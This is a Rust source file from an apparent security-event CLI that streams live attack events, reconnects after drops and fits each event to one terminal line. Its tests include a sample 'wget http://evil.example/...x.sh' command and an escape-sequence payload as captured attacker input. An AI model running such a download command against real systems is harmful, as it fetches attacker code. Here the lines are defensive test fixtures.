//! New events as they come in, until the person ends it.

use std::io::Write as _;
use std::time::Duration;

use cybexp_client::{Client, ClientError, LiveEvents};
use cybexp_service::Backoff;
use cybexp_term::{self as term, BOLD, CYAN, DIM, GREEN, RED, YELLOW};
use serde_json::{Value, json};

/// The most bytes of the stream that may wait for their end of line.
const LINE_BYTES: usize = 1 << 20;
/// The longest wait before the API is asked again.
const LONGEST: Duration = Duration::from_secs(30);

/// Shows new events, until nobody reads them. When the stream ends, it listens again from the last event on.
pub(super) async fn show(client: &Client, as_json: bool) -> anyhow::Result<()> {
    let mut events = client.live(None).await?;
    if !as_json {
        anstream::eprintln!("{DIM}new events as they come in; Ctrl-C ends{DIM:#}");
    }
    let mut last: Option<String> = None;
    let mut backoff = Backoff::new(LONGEST);
    loop {
        let mut lines = Lines::default();
        let mut kind = String::new();
        while let Some(line) = lines.next(&mut events).await {
            backoff.success();
            if let Some(id) = line.strip_prefix("id:") {
                last = Some(id.trim().to_owned());
            } else if let Some(name) = line.strip_prefix("event:") {
                name.trim().clone_into(&mut kind);
            } else if let Some(data) = line.strip_prefix("data:")
                && let Ok(data) = serde_json::from_str::<Value>(data)
            {
                let line = match as_json {
                    true => json!({"kind": kind, "data": data}).to_string(),
                    false => row(&kind, &data, term::width()),
                };
                let mut out = anstream::stdout();
                if writeln!(out, "{line}").and_then(|()| out.flush()).is_err() {
                    // whoever read this has enough, such as `head`
                    return Ok(());
                }
            }
        }
        anstream::eprintln!("{DIM}the API ended the stream; listening again{DIM:#}");
        events = again(client, last.as_deref(), &mut backoff).await?;
    }
}

/// Listens again once the API is there.
///
/// # Errors
/// The API refuses the request.
async fn again(
    client: &Client,
    last: Option<&str>,
    backoff: &mut Backoff,
) -> Result<LiveEvents, ClientError> {
    loop {
        tokio::time::sleep(backoff.failure()).await;
        match client.live(last).await {
            Err(ClientError::Unreachable { .. } | ClientError::Failed { .. }) => {}
            other => return other,
        }
    }
}

/// The lines of a stream of events.
#[derive(Default)]
struct Lines {
    bytes: Vec<u8>,
}

impl Lines {
    async fn next(&mut self, events: &mut LiveEvents) -> Option<String> {
        loop {
            if let Some(end) = self.bytes.iter().position(|byte| *byte == b'\n') {
                let rest = self.bytes.split_off(end + 1);
                let line = std::mem::replace(&mut self.bytes, rest);
                return Some(String::from_utf8_lossy(&line[..end]).into_owned());
            }
            let piece = events.piece().await?;
            if self.bytes.len() + piece.len() > LINE_BYTES {
                return None;
            }
            self.bytes.extend(piece);
        }
    }
}

/// Returns the line of an event, of at most this many columns.
fn row(kind: &str, data: &Value, width: Option<u16>) -> String {
    let event = &data["event"];
    let text = |field: &str| event[field].as_str().unwrap_or_default();
    match kind {
        "gap" => {
            let since = term::time(data["since"].as_f64().unwrap_or_default());
            format!("{YELLOW}events since {since} were not shown{YELLOW:#}")
        }
        "more" => format!("{DIM}and {} more{DIM:#}", data["more"]),
        _ => {
            let at = term::time(event["timestamp"].as_f64().unwrap_or_default());
            let sub_type = term::short(text("sub_type"));
            let mark = match text("category") {
                "malicious" => format!("{RED}●{RED:#}"),
                "benign" => format!("{GREEN}●{GREEN:#}"),
                _ => format!("{DIM}●{DIM:#}"),
            };
            let used = [&at, " ● ", &sub_type].map(columns).iter().sum::<usize>();
            let left = width.map_or(usize::MAX, |width| usize::from(width).saturating_sub(used));
            let values = fitting(&event["values"], left);
            format!("{DIM}{at}{DIM:#} {mark} {BOLD}{sub_type}{BOLD:#}{values}")
        }
    }
}

/// Returns the values that fit in so many columns, each behind a space, and the last one cut if need be.
fn fitting(values: &Value, mut left: usize) -> String {
    let mut shown = String::new();
    for (n, value) in values.as_array().into_iter().flatten().enumerate() {
        let gap = if n == 0 { " " } else { "  " };
        let value = term::value(&value["data"]);
        let room = left.saturating_sub(gap.len());
        // beginnings of a few characters tell nothing
        if room < columns(&value).min(4) {
            break;
        }
        let value = match columns(&value) > room {
            true => {
                let begin: String = value.chars().take(room - 1).collect();
                format!("{begin}…")
            }
            false => value,
        };
        left = room - columns(&value);
        shown.push_str(&format!("{gap}{CYAN}{value}{CYAN:#}"));
    }
    shown
}

fn columns(text: impl AsRef<str>) -> usize {
    text.as_ref().chars().count()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plain(row: &str) -> String {
        anstream::adapter::strip_str(row).to_string()
    }

    #[test]
    fn what_attackers_wrote_does_not_act_on_the_terminal() {
        let value = json!({"sub_type": "shell_command", "data": "\u{1b}[2J\r\n"});
        let event = json!({"event": {"sub_type": "ssh", "timestamp": 5.0, "values": [value]}});
        let row = row("news", &event, None);
        assert!(!row.contains("\u{1b}[2J") && !row.contains('\r'), "{row:?}");
    }

    #[test]
    fn an_event_is_one_line_of_the_terminal() {
        let values = [
            "203.0.113.9",
            "wget http://evil.example/a/long/path/x.sh",
            "ü",
            "root",
        ];
        let values: Vec<Value> = values.iter().map(|data| json!({"data": data})).collect();
        let event = json!({"event": {"sub_type": "ssh", "timestamp": 5.0, "values": values}});
        let shown = |width| plain(&row("news", &event, width));
        assert_eq!(
            shown(None),
            "1970-01-01 00:00 ● ssh 203.0.113.9  wget http://evil.example/a/long/path/x.sh  ü  root"
        );
        for width in 40..100 {
            let line = shown(Some(width));
            assert!(columns(&line) <= usize::from(width), "{line}");
        }
        assert_eq!(
            shown(Some(60)),
            "1970-01-01 00:00 ● ssh 203.0.113.9  wget http://evil.exampl…"
        );
        assert_eq!(shown(Some(38)), "1970-01-01 00:00 ● ssh 203.0.113.9");
        assert_eq!(
            plain(&row("more", &json!({"more": 3}), Some(40))),
            "and 3 more"
        );
    }
}
